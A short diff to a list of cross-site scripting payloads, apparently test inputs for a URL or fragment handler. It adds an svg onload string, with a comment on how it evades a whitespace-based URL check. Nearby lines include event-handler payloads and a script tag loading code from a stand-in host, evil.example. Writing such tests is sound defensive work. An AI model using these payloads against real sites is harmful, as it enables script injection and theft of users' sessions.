@@ -29,6 +29,7 @@ PAYLOADS = [
     "#x{onclick=alert(1)}",
     "#x)<script src=//evil.example/x.js></script>",
     "#<svg onload=alert(1)>",
+    "#x)<svg/onload=alert(1)>",  # no white space: passes an URL check, still an element with onload
     "#x\u202e)gmi<",
     "#x)\n<img src=x onerror=alert(1)>",
 ]
